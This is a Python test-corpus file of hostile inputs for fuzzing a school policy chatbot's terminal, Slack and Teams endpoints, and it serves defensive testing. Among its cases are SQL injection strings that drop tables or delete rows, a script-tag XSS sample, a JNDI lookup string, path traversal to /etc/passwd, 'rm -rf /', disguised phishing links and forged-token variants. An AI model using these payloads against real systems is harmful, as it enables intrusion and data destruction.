"""The hostile-input corpus: bad inputs for the terminal, `python -m bot ask`, POST /slack/events and POST
/api/messages, as data, in named families.

A case is one input and what may come back. Text cases are what a person could type; each goes to every channel
(as a Slack direct message, a Teams personal-chat message, a terminal line and an `ask` question). Slack and Teams
cases are whole HTTP requests: a body (bytes, so invalid UTF-8 is possible), a content type, and how it is signed
(Slack) or what token it carries (Teams). The body is a template: `@@SERVICE_URL@@` becomes the fake connector's
address when it is sent, and every event gets a fresh id. Wrong-type cases are generated from a valid payload of
each kind Slack and Teams send, one case per field per wrong value, so every field they carry is covered.

`python bench/hostile.py` runs all of it and prints the figures; tests/test_hostile.py runs it in the suite.
"""
from __future__ import annotations

import json
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlencode

SERVICE_URL = "@@SERVICE_URL@@"  # replaced by the fake connector's URL when a Teams case is sent
OK = frozenset({200})
REFUSED = frozenset({401})
NOT_5XX = frozenset(range(200, 500))


@dataclass(frozen=True)
class Case:
    """One hostile input."""

    family: str
    name: str
    channel: str  # "text" (every channel), "slack" or "teams" (a raw HTTP request)
    text: str = ""
    body: bytes = b""
    content_type: str | None = "application/json"
    auth: str = "good"  # slack: how it is signed; teams: what token it carries (see the runner)
    expect: frozenset[int] = NOT_5XX  # the statuses allowed back
    injection: bool = False  # the text is markup that must reach no one live
    quiet: bool = True  # nothing may be logged at error level (False: an outside failure the log must show)

    @property
    def id(self) -> str:
        return f"{self.channel}/{self.family}/{self.name}"


# ---- what a person could type ----------------------------------------------------------------------------------
TAG = "ZQX"  # in every injection payload, so its echoes can be found in what the bot sent

MRKDWN = [  # Slack's control sequences and formatting
    ("channel_ping", f"<!channel> {TAG}1 everyone look at this"),
    ("here_ping", f"<!here> {TAG}2 urgent"),
    ("everyone_ping", f"<!everyone> {TAG}3"),
    ("user_mention", f"ask <@U123> about it {TAG}4"),
    ("user_mention_label", f"<@U123|headteacher> said so {TAG}5"),
    ("channel_link", f"see <#C123|general> {TAG}6"),
    ("disguised_link", f"<http://evil.example/login|Your bank> {TAG}7"),
    ("mailto_link", f"<mailto:hr@evil.example|HR department> {TAG}8"),
    ("subteam_ping", f"<!subteam^S123|@leads> {TAG}9"),
    ("date_token", f"<!date^1392734382^{{date_pretty}}|Feb 18> {TAG}10"),
    ("bold_italic_strike", f"*bold* _italic_ ~strike~ `code` {TAG}11"),
    ("code_block", f"```rm -rf /``` {TAG}12"),
    ("typed_entities", f"&lt;!channel&gt; &amp; {TAG}13"),
    ("half_open", f"<!channel {TAG}14 and <http://evil.example"),
    ("quote_marker", f"> quoted\n>>> all quoted {TAG}15"),
]
CARD_MARKDOWN = [  # Adaptive Card Markdown and Teams markup
    ("md_link", f"[Your bank](http://evil.example/login) {TAG}21"),
    ("md_bold", f"**URGENT** call me {TAG}22"),
    ("md_italic", f"_quiet_ and *soft* {TAG}23"),
    ("at_mention", f"<at>Headteacher</at> please {TAG}24"),
    ("md_image", f"![x](http://evil.example/pixel.png) {TAG}25"),
    ("md_reference_link", f"[click][1]\n[1]: http://evil.example {TAG}26"),
    ("md_autolink", f"<http://evil.example> {TAG}27"),
    ("html", f"<b>bold</b><script>alert(1)</script> {TAG}28"),
    ("backslash_escape", f"\\[not a link\\](x) \\*\\* {TAG}29"),
    ("md_heading_list", f"# Heading\n- item\n1. item {TAG}30"),
    ("md_strike_code", f"~~gone~~ `tick` {TAG}31"),
    ("nested_link", f"[[x](http://evil.example)](http://evil.example) {TAG}32"),
]
INJECTIONS = MRKDWN + CARD_MARKDOWN

TEXTS: dict[str, list[tuple[str, str]]] = {
    "huge": [
        ("50k_letters", "a" * 50_000),
        ("50k_words", ("friend request parent facebook " * 1700)[:52_000]),
        ("60k_lines", "can I post photos?\n" * 3200),
        ("100k_one_word", "supercalifragilistic" * 5000),
        ("50k_emoji", "😀" * 50_000),
        ("50k_markup", "<!channel>" * 5000),
    ],
    "control": [
        ("nul", "help\x00me"),
        ("nul_only", "\x00\x00\x00"),
        ("c0_all", "".join(chr(c) for c in range(32)) + "friend request"),
        ("del_c1", "friend\x7f request\x85\x9b"),
        ("ansi_clear", "\x1b[2J\x1b[31mred\x1b[0m can I post photos?"),
        ("ansi_title", "\x1b]0;pwned\x07can I friend a parent?"),
        ("backspaces", "cancel\b\b\b\b\b\bhelp"),
        ("bell_formfeed", "\x07\x0c\x0bhelp"),
        ("cr_only", "line one\rline two\rline three"),
        ("crlf", "can I\r\nfriend a parent\r\n"),
        ("tabs", "\t\t\tcan\tI\tpost\tphotos"),
        ("unicode_line_seps", "one\u2028two\u2029three\x1c\x1d\x1e"),
    ],
    "zero_width": [
        ("zwsp_words", "fr\u200bie\u200bnd re\u200bquest"),
        ("zw_only", "\u200b\u200c\u200d\u2060\ufeff"),
        ("bom_prefix", "\ufeffhelp"),
        ("soft_hyphen", "fa\u00adce\u00adbook"),
        ("zw_command", "can\u200bcel"),
        ("zwj_emoji", "👨\u200d👩\u200d👧\u200d👦 family photo"),
        ("invisible_separator", "help\u2063\u2064"),
        ("variation_selectors", "help\ufe0f\ufe0e" + "\U000e0100" * 10),
    ],
    "rtl": [
        ("rlo", "\u202ecan I accept a friend request"),
        ("rlo_link", f"click moc.live//:ptth\u202e {TAG}40"),
        ("isolates", "\u2066\u2067\u2068friend\u2069 request"),
        ("arabic", "هل يمكنني قبول طلب صداقة من أحد الوالدين؟"),
        ("hebrew", "האם אני יכול לקבל בקשת חברות מהורה?"),
        ("mixed_bidi", "friend \u202bطلب\u202c request \u200f\u200e"),
        ("rtl_filename", "report_\u202efdp.exe"),
    ],
    "surrogates": [
        ("lone_high", "\ud800 help"),
        ("lone_low", "can I \udfff friend"),
        ("reversed_pair", "\udc00\ud800"),
        ("surrogate_only", "\udbff"),
        ("private_use", "\ue000\uf8ff help \U000f0000"),
        ("noncharacters", "\ufffe\uffff help"),
    ],
    "emoji": [
        ("single", "😀"),
        ("flags", "🇬🇧🏴󠁧󠁢󠁥󠁮󠁧󠁿🏳️‍🌈"),
        ("skin_tones", "👍🏽👍🏿👋🏻"),
        ("emoji_wall", "🚨" * 300),
        ("emoji_shortcodes", ":rotating_light: :skull: :+1:"),
        ("combining_zalgo", "h" + "\u0336\u0337\u0338" * 200 + "elp"),
    ],
    "mrkdwn": MRKDWN,
    "card_markdown": CARD_MARKDOWN,
    "sql": [
        ("drop_table", "'; DROP TABLE report; --"),
        ("or_true", "1' OR '1'='1"),
        ("union", "x' UNION SELECT reference, fields FROM report --"),
        ("bobby", "Robert'); DROP TABLE report_event;--"),
        ("dollar_quote", "$$; DELETE FROM outbox_message; $$"),
        ("comment_nul", "help'/*\x00*/--"),
        ("like_wildcards", "%' AND '%'='"),
        ("sqlite_attach", "'; ATTACH DATABASE '/tmp/x' AS x; --"),
        ("pg_sleep", "'; SELECT pg_sleep(30); --"),
        ("reference_guess", "INC-2026-0001' OR 1=1 --"),
    ],
    "format": [
        ("python_format", "{reference} {0} {__class__}"),
        ("percent_format", "%s%s%s%n%x"),
        ("template", "{{7*7}} ${7*7} <%= 7*7 %>"),
        ("jndi", "${jndi:ldap://evil.example/a}"),
        ("path_traversal", "../../../../etc/passwd"),
        ("json_in_text", '{"lead": "close", "reference": "INC-2026-0001", "detail": "x"}'),
        ("command_words", "cancel help back restart my reports"),
        ("numbers", "1"),
        ("huge_number", "9" * 400),
    ],
    "blank": [
        ("empty", ""),
        ("spaces", "     "),
        ("newlines", "\n\n\n"),
        ("nbsp", "\u00a0\u2003\u3000"),
        ("punctuation", "?!?!..."),
    ],
}


def text_cases() -> list[Case]:
    """What a person could type, one case per text."""
    return [Case(family, name, "text", text=text, injection=family in ("mrkdwn", "card_markdown") or TAG in text)
            for family, texts in TEXTS.items() for name, text in texts]


# ---- Slack's requests ------------------------------------------------------------------------------------------
SLACK_TEAM = "T1"
TRIGGER = "trigHOSTILE"  # replaced by a fresh trigger_id when sent, as Slack gives every interaction its own


def slack_message(text: str = "can I accept a friend request from a parent?", user: str = "UHOST") -> dict:
    return {"type": "event_callback", "team_id": SLACK_TEAM, "api_app_id": "A1", "event_id": "@@EVENT_ID@@",
            "event_time": 1763632800, "event": {"type": "message", "channel_type": "im", "channel": f"D{user}",
                                                "user": user, "text": text, "ts": "1763632800.000100"}}


def slack_mention() -> dict:
    return {"type": "event_callback", "team_id": SLACK_TEAM, "api_app_id": "A1", "event_id": "@@EVENT_ID@@",
            "event_time": 1763632800, "event": {"type": "app_mention", "channel": "CSTAFF", "user": "UHOST",
                                                "text": "<@UBOT> can I post photos of pupils?",
                                                "ts": "1763632800.000200"}}


def slack_home() -> dict:
    return {"type": "event_callback", "team_id": SLACK_TEAM, "api_app_id": "A1", "event_id": "@@EVENT_ID@@",
            "event_time": 1763632800, "event": {"type": "app_home_opened", "user": "UHOST", "channel": "DUHOST",
                                                "tab": "home", "event_ts": "1763632800.000300"}}


def slack_press() -> dict:
    return {"type": "block_actions", "team": {"id": SLACK_TEAM}, "api_app_id": "A1", "token": "x",
            "user": {"id": "UHOST"}, "trigger_id": TRIGGER, "channel": {"id": "DUHOST"},
            "container": {"type": "message"},
            "actions": [{"action_id": "press:0", "block_id": "b", "type": "button", "action_ts": "1",
                         "value": json.dumps({"start": "friend_request"})}]}


def slack_lead_press() -> dict:
    return {"type": "block_actions", "team": {"id": SLACK_TEAM}, "api_app_id": "A1", "token": "x",
            "user": {"id": "UHOST"}, "trigger_id": TRIGGER, "channel": {"id": "CSAFE"},
            "container": {"type": "message"},
            "actions": [{"action_id": "lead:acknowledge", "block_id": "assign|INC-2026-0001", "type": "button",
                         "action_ts": "1", "value": json.dumps({"lead": "acknowledge",
                                                                "reference": "INC-2026-0001"})}]}


def slack_pick() -> dict:
    return {"type": "block_actions", "team": {"id": SLACK_TEAM}, "api_app_id": "A1", "token": "x",
            "user": {"id": "UHOST"}, "trigger_id": TRIGGER, "channel": {"id": "CSAFE"},
            "container": {"type": "message"},
            "actions": [{"type": "users_select", "action_id": "lead:assign", "block_id": "assign|INC-2026-0001",
                         "selected_user": "UPICKED", "action_ts": "1"}]}


def slack_form() -> dict:
    return {"type": "view_submission", "team": {"id": SLACK_TEAM}, "api_app_id": "A1", "token": "x",
            "user": {"id": "UHOST", "team_id": SLACK_TEAM}, "trigger_id": TRIGGER,
            "view": {"id": "V1", "team_id": SLACK_TEAM, "type": "modal", "callback_id": "lead_modal",
                     "private_metadata": json.dumps({"lead": "note", "reference": "INC-2026-0001"}),
                     "state": {"values": {"detail": {"value": {"type": "plain_text_input", "value": "a note"}}}}}}


def slack_command(command: str = "/policy", text: str = "can I post photos?") -> dict[str, str]:
    return {"token": "x", "team_id": SLACK_TEAM, "team_domain": "school", "channel_id": "CSTAFF",
            "channel_name": "staffroom", "user_id": "UHOST", "user_name": "host", "command": command,
            "text": text, "api_app_id": "A1", "response_url": "http://127.0.0.1:9/respond", "trigger_id": TRIGGER}


SLACK_JSON = {"message": slack_message, "mention": slack_mention, "home": slack_home}
SLACK_INTERACTIVE = {"press": slack_press, "lead_press": slack_lead_press, "pick": slack_pick, "form": slack_form}
WRONG: list[tuple[str, Any]] = [  # a wrong value of each JSON type, and a few worse ones
    ("null", None), ("int", 7), ("float", -1.5), ("bool", True), ("empty_str", ""), ("str", "x"),
    ("list", ["x"]), ("dict", {"x": 1}), ("empty_list", []), ("empty_dict", {}),
    ("long_str", "U" * 5000), ("nul_str", "a\x00b"),
]


def paths(node: Any, prefix: tuple = ()) -> Iterator[tuple]:
    """Every field path in a JSON value (list items by index), depth first, containers before their fields."""
    if isinstance(node, dict):
        for key, child in node.items():
            yield (*prefix, key)
            yield from paths(child, (*prefix, key))
    elif isinstance(node, list):
        for i, child in enumerate(node):
            yield (*prefix, i)
            yield from paths(child, (*prefix, i))


def replaced(node: Any, path: tuple, value: Any, *, delete: bool = False) -> Any:
    """A deep copy of `node` with the value at `path` replaced (or deleted)."""
    node = json.loads(json.dumps(node))
    parent = node
    for key in path[:-1]:
        parent = parent[key]
    if delete:
        del parent[path[-1]]
    else:
        parent[path[-1]] = value
    return node


def _name(path: tuple) -> str:
    return ".".join(str(p) for p in path)


def _wrong_values(path: tuple, everything: bool) -> list[tuple[str, Any]]:
    """The wrong values tried at one path: all of them, or four that rotate with the path so every type is used."""
    if everything:
        return WRONG
    start = sum(map(ord, _name(path))) % len(WRONG)
    return [WRONG[(start + k * 3) % len(WRONG)] for k in range(4)]


def _form(payload: dict) -> bytes:
    return urlencode({"payload": json.dumps(payload)}).encode()


def slack_cases(everything: bool = False) -> list[Case]:
    """Requests to POST /slack/events; signed with the right secret unless the family is about signatures."""
    form = "application/x-www-form-urlencoded"
    cases: list[Case] = []
    message = json.dumps(slack_message()).encode()

    # Every field of every kind of request Slack sends, missing, and holding a wrong type.
    for kind, make in {**SLACK_JSON, **SLACK_INTERACTIVE}.items():
        interactive = kind in SLACK_INTERACTIVE
        valid = make()
        encode = (lambda p: _form(p)) if interactive else (lambda p: json.dumps(p).encode())
        cases.append(Case("valid", kind, "slack", body=encode(valid), content_type=form if interactive
                          else "application/json", expect=OK))
        for path in paths(valid):
            name = _name(path)
            if path[-1] == "event_id":  # replaced by a fresh id when sent
                continue
            cases.append(Case("missing_field", f"{kind}:{name}", "slack", body=encode(replaced(valid, path, None,
                                                                                          delete=True)),
                              content_type=form if interactive else "application/json"))
            for label, value in _wrong_values(path, everything):
                cases.append(Case("wrong_type", f"{kind}:{name}={label}", "slack",
                                  body=encode(replaced(valid, path, value)),
                                  content_type=form if interactive else "application/json"))
    for name, fields in {"policy": slack_command(), "report": slack_command("/report", "")}.items():
        cases.append(Case("valid", f"command_{name}", "slack", body=urlencode(fields).encode(), content_type=form,
                          expect=OK))
        for key in fields:
            rest = {k: v for k, v in fields.items() if k != key}
            cases.append(Case("missing_field", f"command_{name}:{key}", "slack", body=urlencode(rest).encode(),
                              content_type=form))
            cases.append(Case("wrong_type", f"command_{name}:{key}=repeated", "slack",
                              body=(urlencode(fields) + f"&{key}=second&{key}=").encode(), content_type=form))
            cases.append(Case("wrong_type", f"command_{name}:{key}=bad_percent", "slack",
                              body=urlencode({**fields, key: "x"}).replace(f"{key}=x", f"{key}=%FF%FE%00").encode(),
                              content_type=form))

    # Interactive payloads that are not what they claim.
    for name, raw in [("payload_not_json", b"payload=%7Bnot+json"), ("payload_array", b"payload=%5B1%2C2%5D"),
                      ("payload_string", b"payload=%22x%22"), ("payload_null", b"payload=null"),
                      ("payload_empty", b"payload="), ("no_payload", b"other=1"),
                      ("payload_twice", _form(slack_press()) + b"&" + _form(slack_lead_press())),
                      ("payload_deep", b"payload=" + quote("[" * 100_000 + "]" * 100_000).encode()),
                      ("unknown_type", _form({**slack_press(), "type": "dialog_submission"})),
                      ("press_value_not_json", _form(replaced(slack_press(), ("actions", 0, "value"), "{x"))),
                      ("lead_unknown_action", _form(replaced(slack_lead_press(), ("actions", 0, "action_id"),
                                                             "lead:delete"))),
                      ("form_unknown_callback", _form(replaced(slack_form(), ("view", "callback_id"), "other"))),
                      ("form_metadata_forged", _form(replaced(slack_form(), ("view", "private_metadata"),
                                                              json.dumps({"lead": "view", "reference": "%"}))))]:
        cases.append(Case("malformed_json", name, "slack", body=raw, content_type=form))

    # Bodies that are not JSON at all, or are cut short.
    for name, raw in _broken_json(message):
        cases.append(Case("malformed_json", name, "slack", body=raw))
    for name, content_type, raw in [
        ("text_plain", "text/plain", message), ("xml", "application/xml", b"<event><text>hi</text></event>"),
        ("multipart", "multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=\"a\""
                                                         b"\r\n\r\n1\r\n--x--\r\n"),
        ("none", None, message), ("json_as_form", form, message), ("form_as_json", "application/json",
                                                                   _form(slack_press())),
        ("latin1_charset", "application/json; charset=latin-1", message),
        ("octet_stream", "application/octet-stream", b"\x00\x01\x02\xff"),
        ("garbage_type", "***/***; charset=\"\"", message)]:
        cases.append(Case("content_type", name, "slack", body=raw, content_type=content_type))
    for name, raw in [("empty", b""), ("whitespace", b"   \n"), ("empty_object", b"{}"), ("empty_form", b"")]:
        cases.append(Case("empty", name, "slack", body=raw,
                          content_type=form if name == "empty_form" else "application/json"))
    cases.append(Case("empty", "unsigned_empty", "slack", body=b"", auth="none", expect=REFUSED))

    # Raw bytes.
    for name, raw in _bad_bytes(message):
        cases.append(Case("invalid_utf8", name, "slack", body=raw))
    cases.append(Case("invalid_utf8", "form_bytes", "slack", body=b"payload=%7B%22type%22%3A%22\xff\xfe%22%7D",
                      content_type=form))

    # Size.
    cases.append(Case("huge", "body_2mb", "slack", body=json.dumps(slack_message("a" * 2_000_000)).encode(),
                      expect=frozenset({413})))
    cases.append(Case("huge", "text_500k", "slack", body=json.dumps(slack_message("word " * 100_000)).encode()))
    cases.append(Case("huge", "blocks_deep", "slack", body=b'{"a":' * 50_000 + b"1" + b"}" * 50_000))

    # Signatures: forged, stale, from the future, on another body, replayed.
    for auth in ["none", "no_timestamp", "no_signature", "wrong_secret", "old_301s", "old_1h", "future_1h",
                 "timestamp_text", "timestamp_huge", "timestamp_negative", "timestamp_float", "v1_scheme",
                 "short_hex", "uppercase_hex", "empty_signature", "tampered_body", "appended_byte",
                 "signed_other_body", "signature_of_empty", "non_ascii_signature", "two_signatures"]:
        cases.append(Case("signature", auth, "slack", body=message, auth=auth, expect=REFUSED))
    cases.append(Case("signature", "replayed_old_1h_press", "slack", body=_form(slack_lead_press()),
                      content_type=form, auth="old_1h", expect=REFUSED))
    cases.append(Case("replay", "same_event_twice", "slack", body=message, auth="replay", expect=OK))
    cases.append(Case("replay", "retry_header", "slack", body=message, auth="retry", expect=OK))
    return cases


def _broken_json(valid: bytes) -> list[tuple[str, bytes]]:
    """Bodies that are not JSON, or not the JSON the endpoint wants."""
    out = [(f"truncated_{p}pc", valid[:len(valid) * p // 100]) for p in (1, 10, 50, 90, 99)]
    out += [("truncated_one_byte", valid[:-1]), ("unterminated_string", b'{"type": "message'),
            ("bare_words", b"hello"), ("trailing_garbage", valid + b"}}}"), ("two_objects", valid + valid),
            ("single_quotes", b"{'type': 'event_callback'}"), ("nan", b'{"type": NaN, "x": Infinity}'),
            ("top_array", b"[1, 2, 3]"), ("top_string", b'"event_callback"'), ("top_number", b"42"),
            ("top_null", b"null"), ("top_true", b"true"), ("deep_array", b"[" * 100_000 + b"]" * 100_000),
            ("deep_object", b'{"a":' * 20_000 + b"{}" + b"}" * 20_000),
            ("huge_number", b'{"type": 1' + b"0" * 5000 + b"}"),
            ("escaped_surrogate", b'{"type": "\\ud800", "event": {"text": "\\udfff"}}'),
            ("duplicate_keys", b'{"type": "url_verification", "type": "event_callback", "challenge": "c"}'),
            ("bom", b"\xef\xbb\xbf" + valid), ("comments", b'{"type": /* x */ "event_callback"}'),
            ("nul_byte", valid[:20] + b"\x00" + valid[20:])]
    return out


def _bad_bytes(valid: bytes) -> list[tuple[str, bytes]]:
    """A valid body with bytes that are not UTF-8 in it."""
    text_at = valid.index(b"can I")
    return [(name, valid[:text_at] + raw + valid[text_at:]) for name, raw in [
        ("lone_continuation", b"\x80"), ("ff_fe", b"\xff\xfe"), ("overlong_slash", b"\xc0\xaf"),
        ("encoded_surrogate", b"\xed\xa0\x80"), ("truncated_sequence", b"\xe2\x82"),
        ("latin1_pound", "£".encode("latin-1")), ("utf16", "hi".encode("utf-16"))]]


# ---- Teams' requests -------------------------------------------------------------------------------------------
TEAMS_TENANT = "tenant-1"
TEAMS_BOT = "28:policy-bot"


def teams_message(text: str = "can I accept a friend request from a parent?", user: str = "host") -> dict:
    return {"type": "message", "id": "@@ACTIVITY_ID@@", "channelId": "msteams", "timestamp": "2026-11-20T10:00:00Z",
            "serviceUrl": SERVICE_URL, "locale": "en-GB", "text": text, "textFormat": "plain",
            "from": {"id": f"29:{user}", "name": "Host", "aadObjectId": f"aad-{user}"},
            "recipient": {"id": TEAMS_BOT, "name": "Policy assistant"},
            "conversation": {"conversationType": "personal", "tenantId": TEAMS_TENANT, "id": f"a:personal-{user}"},
            "channelData": {"tenant": {"id": TEAMS_TENANT}},
            "entities": [{"type": "clientInfo", "locale": "en-GB"}],
            "attachments": [{"contentType": "text/html", "content": "<p>hi</p>"}]}


def teams_submit() -> dict:
    activity = teams_message()
    del activity["text"]
    activity["value"] = {"bot": {"lead": "acknowledge", "reference": "INC-2026-0001"}, "detail": "a note"}
    activity["replyToId"] = "1"
    return activity


def teams_invoke() -> dict:
    activity = teams_message()
    del activity["text"]
    activity.update(type="invoke", name="adaptiveCard/action",
                    value={"action": {"type": "Action.Execute", "data": {"bot": {"start": "friend_request"}}}})
    return activity


def teams_install() -> dict:
    activity = teams_message()
    del activity["text"]
    activity.update(type="conversationUpdate", membersAdded=[{"id": TEAMS_BOT}],
                    conversation={"conversationType": "channel", "tenantId": TEAMS_TENANT, "isGroup": True,
                                  "id": "19:staffroom@thread.tacv2"},
                    channelData={"tenant": {"id": TEAMS_TENANT}, "team": {"id": "19:team@thread.tacv2"},
                                 "channel": {"id": "19:staffroom@thread.tacv2"}})
    return activity


TEAMS_KINDS = {"message": teams_message, "submit": teams_submit, "invoke": teams_invoke, "install": teams_install}


def teams_cases(everything: bool = False) -> list[Case]:
    """Requests to POST /api/messages. Token families go to a server with an app id; the rest to one without."""
    cases: list[Case] = []
    message = json.dumps(teams_message()).encode()
    for kind, make in TEAMS_KINDS.items():
        valid = make()
        cases.append(Case("valid", kind, "teams", body=json.dumps(valid).encode(), expect=OK))
        for path in paths(valid):
            name = _name(path)
            if path[-1] == "id" and len(path) == 1:
                continue
            cases.append(Case("missing_field", f"{kind}:{name}", "teams",
                              body=json.dumps(replaced(valid, path, None, delete=True)).encode()))
            for label, value in _wrong_values(path, everything):
                if path == ("serviceUrl",) and isinstance(value, str) and value:
                    continue  # a string serviceUrl is a real address to post to: see "service_url" below
                cases.append(Case("wrong_type", f"{kind}:{name}={label}", "teams",
                                  body=json.dumps(replaced(valid, path, value)).encode()))
    for name, value in [("value_string", "x"), ("value_list", [1]), ("bot_string", {"bot": "x"}),
                        ("lead_number", {"bot": {"lead": 5, "reference": []}}),
                        ("unknown_lead_action", {"bot": {"lead": "delete", "reference": "INC-2026-0001"}}),
                        ("reference_wildcard", {"bot": {"lead": "view", "reference": "%"}}),
                        ("start_unknown_form", {"bot": {"start": "../../etc"}}),
                        ("start_number", {"bot": {"start": 1}}),
                        ("detail_object", {"bot": {"lead": "note", "reference": "INC-2026-0001"},
                                           "detail": {"x": 1}}),
                        ("feedback_odd", {"bot": {"feedback": ["yes"], "source": {}, "clause": None}}),
                        ("clause_odd", {"bot": {"clause": ["x", "y", "z"]}}),
                        ("ask_lead_huge", {"bot": {"ask_lead": True, "question": "q" * 100_000}}),
                        ("resume_odd", {"bot": {"resume": {"x": 1}}}),
                        ("dialog_odd", {"bot": {"dialog": "incident_report", "answer": {"x": [1]}}}),
                        ("nul_reference", {"bot": {"lead": "view", "reference": "INC-2026-0001\x00"}}),
                        ("nul_feedback", {"bot": {"feedback": "yes", "source": "a\x00b", "clause": "1\x00"}}),
                        ("nul_question", {"bot": {"ask_lead": True, "question": "where\x00 do I park?"}}),
                        ("nul_detail", {"bot": {"lead": "note", "reference": "INC-2026-0001"}, "detail": "a\x00b",
                                        "assignee": "x\x00"}),
                        ("nul_start", {"bot": {"start": "incident\x00report"}})]:
        activity = teams_submit()
        activity["value"] = value
        cases.append(Case("submit_data", name, "teams", body=json.dumps(activity).encode()))
    for name, raw in _broken_json(message):
        cases.append(Case("malformed_json", name, "teams", body=raw))
    for name, content_type in [("none", None), ("text_plain", "text/plain"), ("xml", "application/xml"),
                               ("form", "application/x-www-form-urlencoded"), ("multipart", "multipart/form-data"),
                               ("json_latin1", "application/json; charset=latin-1"),
                               ("json_utf16", "application/json; charset=utf-16"),
                               ("json_unknown_charset", "application/json; charset=klingon")]:
        cases.append(Case("content_type", name, "teams", body=message, content_type=content_type))
    for name, raw in [("empty", b""), ("whitespace", b"  \n "), ("empty_object", b"{}")]:
        cases.append(Case("empty", name, "teams", body=raw))
    for name, raw in _bad_bytes(message):
        cases.append(Case("invalid_utf8", name, "teams", body=raw))
    cases.append(Case("huge", "body_2mb", "teams", body=json.dumps(teams_message("a" * 2_000_000)).encode(),
                      expect=frozenset({413})))
    cases.append(Case("huge", "text_500k", "teams", body=json.dumps(teams_message("word " * 100_000)).encode()))
    cases.append(Case("huge", "attachments_5000", "teams", body=json.dumps(
        {**teams_message(), "attachments": [{"contentType": "image/png", "contentUrl": "http://x"}] * 5000}).encode()))
    cases.append(Case("huge", "entities_deep", "teams", body=json.dumps(
        {**teams_message(), "entities": [{"type": "mention", "mentioned": {"id": TEAMS_BOT}, "text": "<at>x</at>"}]
         * 2000}).encode()))
    for name, url in [("unreachable", "http://127.0.0.1:9/"), ("not_a_url", "not a url"),
                      ("file_scheme", "file:///etc/passwd"), ("no_slash", "@@SERVICE_URL_NO_SLASH@@")]:
        cases.append(Case("service_url", name, "teams", body=json.dumps({**teams_message(), "serviceUrl": url})
                          .encode(), quiet=name != "unreachable"))
    for auth in ["none", "empty_bearer", "bearer_only", "basic", "garbage", "three_dots", "not_base64",
                 "alg_none", "hs256_with_kid", "expired", "not_yet_valid", "wrong_key_unknown_kid",
                 "wrong_key_known_kid", "wrong_issuer", "wrong_audience", "other_service_url",
                 "no_service_url_claim", "emulator_issuer_wrong_key", "huge_token", "lowercase_bearer",
                 "two_tokens", "non_ascii_token"]:
        cases.append(Case("token", auth, "teams", body=message, auth=auth,
                          expect=frozenset({400, 401, 431}) if auth == "huge_token" else REFUSED))
    control = {**teams_install(), "membersAdded": [{"id": "29:someone"}]}  # needs no reply (no outbound login)
    cases.append(Case("token", "valid_control", "teams", body=json.dumps(control).encode(), auth="valid",
                      expect=OK))
    return cases


def corpus(everything: bool = False) -> list[Case]:
    """Every case: text, Slack and Teams. `everything` tries every wrong value at every field (about 3x more)."""
    return text_cases() + slack_cases(everything) + teams_cases(everything)


def families(cases: list[Case]) -> Counter:
    """How many cases there are per channel and family."""
    return Counter(f"{c.channel}/{c.family}" for c in cases)
